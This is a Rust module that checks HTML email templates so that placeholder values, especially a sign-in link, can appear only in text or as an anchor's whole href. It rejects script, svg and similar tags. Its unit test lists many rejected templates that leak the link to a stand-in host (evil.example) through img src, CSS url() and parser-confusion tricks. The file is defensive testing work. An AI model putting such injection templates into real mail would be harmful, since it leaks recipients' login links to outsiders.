//! Where values may stand in the HTML of a letter.
//!
//! They are escaped for text and for quoted attributes. So they stand in text, and the link as the whole of an anchor's
//! `href`: in a `src` it would be followed, and spent, by the mail program itself, and sent to whoever the address names.

use std::convert::Infallible;

use html5gum::{DefaultEmitter, HtmlString, Token, Tokenizer};
use kernel::Result;

use crate::mail_template::{Placeholder, fill, invalid};

/// What no template has, and every value that is tried out.
const MARK: char = '\u{1}';
/// What is put where a value would be: it begins with a letter, as the name of a tag would, and has a space inside, which
/// ends an attribute that is not quoted.
const LINK: &str = "v\u{1} link";
const OTHER: &str = "v\u{1} other";

/// What has text that is none, or that programs do not agree about.
const NOT_IN_LETTERS: [&str; 12] = [
    "iframe",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "plaintext",
    "script",
    "svg",
    "template",
    "textarea",
    "xmp",
];

/// # Errors
/// `invalid_template` for a value that stands where it could become something else, for what has no place in a letter, and
/// for HTML that ends in the middle of a tag.
pub(crate) fn check_places(html: &str) -> Result<()> {
    let tried = fill(html, |placeholder| if placeholder == Placeholder::Link { LINK } else { OTHER }.to_owned());
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let (mut in_style, mut safe) = (false, 0);
    for token in Tokenizer::new_with_emitter(tried.as_str(), emitter) {
        let token: std::result::Result<_, Infallible> = token;
        let Ok(token) = token;
        match token {
            Token::StartTag(tag) => {
                let name = text(&tag.name);
                if NOT_IN_LETTERS.contains(&&*name) {
                    return Err(invalid(format!("Give html without {name}: no letter has that.")));
                }
                in_style = name == "style";
                for (attribute, value) in tag.attributes.iter().map(|(name, value)| (text(name), text(value))) {
                    if name == "a" && attribute == "href" && value == LINK {
                        safe += 1;
                    } else if attribute.contains(MARK) || value.contains(MARK) {
                        return Err(out_of_place());
                    }
                }
                if name.contains(MARK) {
                    return Err(out_of_place());
                }
            }
            Token::EndTag(_) => in_style = false,
            Token::String(string) if !in_style => safe += text(&string).matches(MARK).count(),
            // Those that are nowhere else are missing below.
            Token::String(_) | Token::Comment(_) | Token::Doctype(_) | Token::Error(_) => {}
        }
    }
    if safe == tried.matches(MARK).count() { Ok(()) } else { Err(out_of_place()) }
}

/// What was written in UTF-8 is taken apart at ASCII.
fn text(string: &HtmlString) -> std::borrow::Cow<'_, str> {
    String::from_utf8_lossy(string)
}

fn out_of_place() -> kernel::Error {
    invalid(
        "Give html with values in its text, and {{link}} in <a href=\"{{link}}\"> besides: not in other attributes, \
         styles or comments.",
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_49_a_link_stands_in_text_and_in_what_is_clicked_alone() {
        for good in [
            "<a href=\"{{link}}\">{{organization}}</a> {{link}}",
            "<A HREF='{{ link }}'>Go</A><style>p { color: red }</style><p>{{app_name}}</p><!-- x -->{{link}}",
            "<title>{{app_name}}</title>1 < 2 > {{link}} < 3",
            "<a class=b style='x' href=\"{{link}}\" title='>'>Go</a>",
            "<img alt=\">\" src='https://x.example/>'>{{link}}",
            "<!doctype html><p>{{link}} &amp; ä 🦊",
        ] {
            assert_eq!(check_places(good).map_err(|error| error.message), Ok(()), "{good}");
        }
        for bad in [
            "<img src=\"{{link}}\">",
            "<img alt=\">\" src=\"https://evil.example/?{{link}}\">",
            "<img src='https://evil.example/?>{{link}}'>",
            "<img src='https://evil.example/?{{link}}",
            "<img src=\"https://evil.example/?\n<p>{{link}}</p>\"",
            "<img src=x src=\"{{link}}\">",
            "<style></stylex>p { background: url(https://evil.example/?{{link}}) }</style>",
            "<style>p { content: '{{organization}}' }</style>{{link}}",
            "<style>{{link}}",
            "<link rel=\"stylesheet\" href=\"{{link}}\">",
            "<area href=\"{{link}}\">",
            "<a data-href=\"{{link}}\">",
            "<a href={{link}}>Go</a>",
            "<a href= {{link}} >Go</a>",
            "<a href=\"{{link}}&x=1\">Go</a>",
            "<a href=\"javascript:{{link}}\">Go</a>",
            "<a href=\"{{organization}}\">Go</a>{{link}}",
            "<a {{link}}>Go</a>",
            "<p title=\"{{app_name}}\">{{link}}</p>",
            "<p {{app_name}}>{{link}}</p>",
            "<{{app_name}}>{{link}}",
            "</{{app_name}}>{{link}}",
            "</p {{app_name}}>{{link}}",
            "<!{{app_name}}>{{link}}",
            "<!doctype {{app_name}}>{{link}}",
            "<!-- {{organization}} -->{{link}}",
            "<!--[if mso]>{{link}}<![endif]-->",
            "<![CDATA[{{link}}]]>",
            "<?x {{link}}?>",
            "<SCRIPT>x</SCRIPT>{{link}}",
            "<svg><style><img src=\"https://evil.example/?</style>{{link}}\"></svg>",
            "<textarea>{{link}}</textarea>",
            "<xmp>{{link}}</xmp>",
        ] {
            assert!(check_places(bad).is_err(), "{bad}");
        }
    }
}
